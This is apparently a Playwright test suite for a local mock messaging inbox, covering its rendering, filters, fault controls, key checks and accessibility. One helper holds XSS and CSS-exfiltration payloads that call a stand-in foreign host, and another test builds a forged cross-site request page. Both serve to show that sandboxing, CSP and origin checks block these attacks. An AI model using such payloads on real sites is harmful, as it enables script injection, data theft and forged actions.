"""The inbox in a real Chromium: live messages, a message's page, the clock, hostile bodies,
controls and their guards, keyboard use and 200 % zoom."""

from __future__ import annotations

import os
import shutil
from pathlib import Path

import pytest
from axe_playwright_python.sync_playwright import Axe
from inbox_helpers import ForeignSite, InboxPage
from playwright.sync_api import expect

from pulse_sync import Pulse, Pulsewave, ServerError

DOCS_SCREENSHOT = Path(__file__).resolve().parents[3] / "docs" / "images" / "inbox.png"


def _send_some(inbox: InboxPage) -> tuple[str, str, str]:
    server = inbox.server
    with Pulse(server.admin_key, base_url=server.v2_url) as pulse:
        first = pulse.messages.send(
            to=["ada@example.com", "editor@example.com"],
            subject="Welcome aboard",
            body="**Hello** Ada, see [the docs](https://docs.example.com/start).",
            idempotency_key="welcome-ada-1",
        )
    with Pulsewave(server.admin_key, base_url=server.v1_url) as pw:
        email = pw.messages.create(
            channel="email",
            to="grace@example.com",
            from_="news@example.com",
            subject="Your invoice",
            html="<h1 style='color:#0a58ca'>Invoice 42</h1><p>Thanks, Grace.</p>",
            metadata={"order": "42"},
        )
        sms = pw.messages.create(
            channel="sms", to="+14155550123", from_="Pulse", text="Your code is 1234"
        )
    return first.message_id, email.id, sms.id


def test_messages_sent_through_the_sdk_appear_without_a_reload(inbox: InboxPage) -> None:
    page = inbox.open("/")
    expect(page.get_by_text("No messages yet")).to_be_visible()
    v2_id, email_id, sms_id = _send_some(inbox)

    cards = page.locator("article.message")
    expect(cards).to_have_count(3)  # the page polls; no reload
    # Newest first, each with channel, from, to, status timeline, metadata, Idempotency-Key.
    ids = [cards.nth(i).get_attribute("data-message-id") for i in range(3)]
    assert ids == [sms_id, email_id, v2_id]
    v2 = page.locator(f'article[data-message-id="{v2_id}"]')
    expect(v2).to_contain_text("thread")
    expect(v2).to_contain_text("admin@example.com")
    expect(v2).to_contain_text("ada@example.com, editor@example.com")
    expect(v2).to_contain_text("welcome-ada-1")
    expect(v2.locator(".timeline li.reached")).to_have_count(1)
    email = page.locator(f'article[data-message-id="{email_id}"]')
    expect(email).to_contain_text('order="42"')
    expect(email).to_contain_text("news@example.com")
    expect(page.locator("#message-count")).to_have_text("3 messages")
    inbox.screenshot("messages")
    if os.environ.get("PULSE_UPDATE_DOCS_SCREENSHOT"):
        DOCS_SCREENSHOT.parent.mkdir(parents=True, exist_ok=True)
        page.set_viewport_size({"width": 1100, "height": 760})
        page.screenshot(path=str(DOCS_SCREENSHOT))
        shutil.copy(DOCS_SCREENSHOT, inbox.artifacts / "readme.png")
    assert inbox.foreign_requests() == []


def test_filters_and_search_narrow_the_list(inbox: InboxPage) -> None:
    _, email_id, sms_id = _send_some(inbox)
    page = inbox.open("/")
    expect(page.locator("article.message")).to_have_count(3)
    page.get_by_label("Channel").select_option("sms")
    page.get_by_role("button", name="Filter").click()
    expect(page.locator("article.message")).to_have_count(1)
    expect(page.locator("article.message")).to_have_attribute("data-message-id", sms_id)
    expect(page.locator("#message-count")).to_have_text("1 of 3 messages")

    inbox.open("/")
    page.get_by_label("Recipient").fill("GRACE@")
    page.get_by_role("button", name="Filter").click()
    expect(page.locator("article.message")).to_have_attribute("data-message-id", email_id)

    inbox.open("/")
    page.get_by_label("Search").fill("invoice 42")  # every term, anywhere (here: HTML body)
    page.keyboard.press("Enter")
    expect(page.locator("article.message")).to_have_count(1)
    page.get_by_label("Search").fill("")
    page.get_by_label("Status", exact=True).select_option("delivered")
    page.get_by_role("button", name="Filter").click()
    expect(page.get_by_text("No message matches these filters.")).to_be_visible()


def test_a_message_page_and_its_timeline_moving_with_the_clock(inbox: InboxPage) -> None:
    v2_id, email_id, _ = _send_some(inbox)
    page = inbox.open("/")
    page.locator(f'article[data-message-id="{v2_id}"] h2 a').click()
    expect(page.get_by_role("heading", level=1)).to_have_text("Welcome aboard")
    # The Markdown body, rendered.
    expect(page.locator("#markdown-body strong")).to_have_text("Hello")
    expect(page.locator("#markdown-body a")).to_have_attribute(
        "href", "https://docs.example.com/start"
    )
    expect(page.locator("#raw-json")).to_contain_text('"status": "queued"')
    timeline = page.locator("#timeline")
    expect(timeline.locator("li.reached")).to_have_count(1)
    expect(timeline.locator("li.expected")).to_have_count(3)

    # Advance the frozen clock from the page: the key is asked once.
    page.get_by_label("Advance by (s)").fill("0.3")
    page.get_by_role("button", name="Advance", exact=True).click()
    inbox.give_key(inbox.server.admin_key)
    expect(timeline.locator("li.reached")).to_have_count(2)
    expect(timeline).to_contain_text("Now sending")
    page.get_by_label("Advance by (s)").fill("1")
    page.get_by_role("button", name="Advance", exact=True).click()  # no second dialog
    expect(timeline.locator("li.reached")).to_have_count(4)
    expect(timeline.locator("li.reached").last).to_have_attribute("data-status", "delivered")
    expect(page.locator("#raw-json")).to_contain_text('"status": "delivered"')
    assert inbox.server.message_status(v2_id) == "delivered"
    inbox.screenshot("message")

    inbox.open(f"/_inbox/messages/{email_id}")
    frame = page.frame_locator("iframe.html-body")
    expect(frame.locator("h1")).to_have_text("Invoice 42")
    expect(page.locator("iframe.html-body")).to_have_attribute("sandbox", "")
    inbox.screenshot("email")
    assert inbox.foreign_requests() == []


def _hostile(foreign: str) -> tuple[str, str]:
    markdown = (
        f"<script>fetch('{foreign}/md-script'); alert('md')</script>\n\n"
        f"<img src=x onerror=\"fetch('{foreign}/md-onerror')\">\n\n"
        "[click me](javascript:alert('md-link'))\n\n"
        f"![tracker]({foreign}/md-image.png)\n\n"
        f"<style>body{{background:url({foreign}/md-css)}}</style>"
    )
    html = f"""<html><head>
<meta http-equiv="refresh" content="0;url={foreign}/refresh">
<link rel="stylesheet" href="{foreign}/link.css">
<link rel="prefetch" href="{foreign}/prefetch">
<style>
@import url({foreign}/import.css);
@font-face {{ font-family: x; src: url({foreign}/font.woff); }}
body {{ background: url({foreign}/bg.png); font-family: x; }}
input[value^="a"] {{ background: url({foreign}/exfil-a); }}
</style></head>
<body><h1>Hostile</h1>
<script>fetch('{foreign}/script'); alert('html'); parent.document.title = 'pwned';</script>
<img src="{foreign}/img.png" onerror="fetch('{foreign}/onerror')">
<img src=x onerror="alert('onerror')">
<a id="js" href="javascript:alert('link')">javascript link</a>
<svg onload="alert('svg')"><image href="{foreign}/svg.png"/></svg>
<iframe src="{foreign}/frame"></iframe>
<object data="{foreign}/object"></object>
<form action="{foreign}/form"><input value="abc" autofocus onfocus="alert('focus')"></form>
<video src="{foreign}/video.mp4" autoplay></video>
</body></html>"""
    return markdown, html


def test_hostile_bodies_run_nothing_and_fetch_nothing(
    inbox: InboxPage, foreign: ForeignSite
) -> None:
    markdown, html = _hostile(foreign.url)
    server = inbox.server
    with Pulse(server.admin_key, base_url=server.v2_url) as pulse:
        v2 = pulse.messages.send(to=["ada@example.com"], subject="<b>md</b>", body=markdown)
    with Pulsewave(server.admin_key, base_url=server.v1_url) as pw:
        email = pw.messages.create(
            channel="email",
            to="ada@example.com",
            from_="evil@example.com",
            subject="<script>alert('subject')</script>",
            html=html,
            text="<script>alert('text')</script>",
            metadata={"x": "<img src=x onerror=alert('meta')>"},
        )
    page = inbox.open("/")
    expect(page.locator("article.message")).to_have_count(2)
    expect(page.locator("article.message").first).to_contain_text("<script>alert('subject')")

    inbox.open(f"/_inbox/messages/{v2.message_id}")
    expect(page.locator("#markdown-body")).to_contain_text("<script>")  # shown as text
    assert page.locator('#markdown-body a[href^="javascript"]').count() == 0
    assert page.locator("#markdown-body img, #markdown-body script").count() == 0

    inbox.open(f"/_inbox/messages/{email.id}")
    frame = page.frame_locator("iframe.html-body")
    expect(frame.locator("h1")).to_have_text("Hostile")
    frame.locator("#js").click()  # a javascript: link in a sandbox without scripts
    page.locator("iframe.html-body").focus()
    page.keyboard.press("Tab")
    page.wait_for_timeout(500)  # give anything that would fire a moment to do it
    inbox.screenshot("hostile")

    assert inbox.dialogs == []
    assert page.title() != "pwned"
    assert "pwned" not in page.evaluate("document.title")
    assert foreign.hits == []
    assert inbox.foreign_requests() == []
    # What the browser says it refused: the scripts, the redirect and every fetch.
    said = "\n".join(inbox.console)
    assert "Blocked script execution" in said
    assert "Refused to execute the redirect" in said
    blocked = {url for url, why in inbox.blocked.items() if why == "csp"}
    assert {
        f"{foreign.url}/{p}" for p in ("link.css", "import.css", "font.woff", "bg.png")
    } <= blocked


def test_fault_controls_change_what_the_next_sdk_call_sees(inbox: InboxPage) -> None:
    server = inbox.server
    page = inbox.open("/_inbox/controls")
    page.get_by_label("Kind").select_option("server_error")
    page.get_by_label("Route").fill("POST /v2/messages")
    page.get_by_label("Count (empty: until cleared)").fill("1")
    page.get_by_role("button", name="Add the rule").click()
    inbox.give_key(server.admin_key)
    expect(page.locator('form[data-action="/_inbox/api/faults"] .result')).to_contain_text(
        "Added server_error on POST /v2/messages"
    )
    expect(page.locator("#fault-rules")).to_contain_text("server_error")
    assert [r.kind for r in server.faults.rules] == ["server_error"]

    with Pulse(server.admin_key, base_url=server.v2_url, max_retries=0) as pulse:
        with pytest.raises(ServerError):
            pulse.messages.send(to=["ada@example.com"], subject="a", body="b")
        pulse.messages.send(to=["ada@example.com"], subject="a", body="b")  # count=1: gone

        page.get_by_label("Count (empty: until cleared)").fill("")
        page.get_by_role("button", name="Add the rule").click()  # the key is remembered
        expect(page.locator("#fault-rules tbody tr")).to_have_count(1)
        page.get_by_role("button", name="Clear every fault rule").click()
        expect(page.get_by_text("No fault rules")).to_be_visible()
        assert server.faults.rules == []
        pulse.messages.send(to=["ada@example.com"], subject="a", body="b")
    inbox.screenshot("controls")


def test_a_control_without_the_admin_key_changes_nothing(inbox: InboxPage) -> None:
    server = inbox.server
    page = inbox.open("/_inbox/controls")
    page.get_by_role("button", name="Add the rule").click()
    page.locator("#key-dialog").get_by_role("button", name="Cancel").click()
    expect(page.locator('form[data-action="/_inbox/api/faults"] .result')).to_contain_text(
        "nothing was changed"
    )
    page.get_by_role("button", name="Add the rule").click()
    inbox.give_key(server.viewer_key)  # a real key, but not an admin's
    expect(page.locator("#key-error")).to_contain_text("role is viewer")
    page.locator("#key-dialog").get_by_role("button", name="Cancel").click()
    page.get_by_role("button", name="Create the key").click()
    inbox.give_key("pw_test_0000000000000000wrong")
    expect(page.locator("#key-error")).to_contain_text("unknown or revoked")
    page.locator("#key-dialog").get_by_role("button", name="Cancel").click()
    assert server.faults.rules == []
    assert len(server.server.state.keys) == 3


def test_a_cross_site_page_cannot_use_the_controls(inbox: InboxPage, foreign: ForeignSite) -> None:
    """Even a page that knows the admin key cannot forge a control from another origin."""
    server = inbox.server
    target = server.url + "/_inbox/api/faults"
    foreign.pages["/attack.html"] = f"""<!doctype html><html><body>
<form id="f" method="post" action="{target}" enctype="text/plain">
<input name='{{"kind":"server_error","x":"' value='"}}'></form>
<script>
fetch("{target}", {{method: "POST", mode: "no-cors", credentials: "include",
  headers: {{"Content-Type": "text/plain"}}, body: '{{"kind": "server_error"}}'}}).catch(() => 0);
fetch("{target}", {{method: "POST", headers: {{"Content-Type": "application/json",
  "Authorization": "Bearer {server.admin_key}", "X-Pulse-Inbox-Token": "guess"}},
  body: '{{"kind": "server_error"}}'}}).catch(() => 0);
setTimeout(() => document.getElementById("f").submit(), 300);
</script></body></html>"""
    page = inbox.page
    page.goto(foreign.url + "/attack.html")
    page.wait_for_url(target)  # the form post landed on the server, which refused it
    assert "cross-origin control requests are refused" in page.content()
    assert server.faults.rules == []
    assert len(server.server.state.keys) == 3


def test_keyboard_navigation_and_200_percent_zoom(inbox: InboxPage) -> None:
    v2_id, _, _ = _send_some(inbox)
    page = inbox.page
    page.set_viewport_size({"width": 640, "height": 900})  # 1280 px at 200 % zoom
    inbox.open("/")
    expect(page.locator("article.message")).to_have_count(3)
    page.keyboard.press("Tab")
    expect(page.get_by_role("link", name="Skip to content")).to_be_focused()
    page.keyboard.press("Enter")
    expect(page.locator("main")).to_be_focused()
    page.keyboard.press("/")
    expect(page.get_by_label("Search")).to_be_focused()
    page.locator("main h1").click()
    for _ in range(3):
        page.keyboard.press("j")
    expect(page.locator(f'article[data-message-id="{v2_id}"] h2 a')).to_be_focused()
    inbox.screenshot("zoom-200")
    page.keyboard.press("Enter")
    expect(page.get_by_role("heading", level=1)).to_have_text("Welcome aboard")
    for path in ("/", f"/_inbox/messages/{v2_id}", "/_inbox/users", "/_inbox/controls"):
        inbox.open(path)
        overflow = page.evaluate("document.documentElement.scrollWidth - window.innerWidth")
        assert overflow <= 0, (path, overflow)  # no sideways scrolling at 200 %


def test_users_threads_ledger_and_webhooks_pages(inbox: InboxPage) -> None:
    v2_id, _, _ = _send_some(inbox)
    page = inbox.open("/_inbox/users")
    users = page.locator("#users tbody tr")
    editor = users.filter(has_text="editor@example.com")
    expect(editor.locator("[data-unread]")).to_have_text("1")  # one unread message
    expect(users.filter(has_text="admin@example.com").locator("[data-unread]")).to_have_text("0")
    expect(page.locator("#threads")).to_contain_text("Welcome aboard")
    inbox.screenshot("users")
    server = inbox.server
    server.server.mark_thread_read(
        server.server.state.messages[v2_id].thread_id or "",
        next(u.id for u in server.server.state.users.values() if u.email == "editor@example.com"),
    )
    expect(editor.locator("[data-unread]")).to_have_text("0")  # live

    page = inbox.open("/_inbox/ledger")
    expect(page.locator("#ledger tbody tr")).to_have_count(3)
    expect(page.locator("#ledger")).to_contain_text("welcome-ada-1")
    page.locator("#ledger").get_by_role("link", name=v2_id).click()
    expect(page.get_by_role("heading", level=1)).to_have_text("Welcome aboard")
    inbox.screenshot("ledger")

    page = inbox.open("/_inbox/webhooks")
    expect(page.get_by_role("heading", level=1)).to_have_text("Webhook deliveries")
    inbox.screenshot("webhooks")
    assert inbox.foreign_requests() == []


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_every_page_passes_axe(inbox: InboxPage, scheme: str) -> None:
    """axe-core's WCAG rules (labels, contrast, landmarks, ARIA, headings) find nothing."""
    v2_id, email_id, sms_id = _send_some(inbox)
    inbox.page.emulate_media(color_scheme=scheme)
    axe = Axe()
    for path in (
        "/",
        f"/_inbox/messages/{v2_id}",
        f"/_inbox/messages/{email_id}",
        f"/_inbox/messages/{sms_id}",
        "/_inbox/users",
        "/_inbox/ledger",
        "/_inbox/webhooks",
        "/_inbox/controls",
        "/_inbox/messages/msg_unknown",
    ):
        inbox.open(path)
        violations = axe.run(inbox.page).response["violations"]
        assert [(v["id"], [n["target"] for n in v["nodes"]]) for v in violations] == [], path
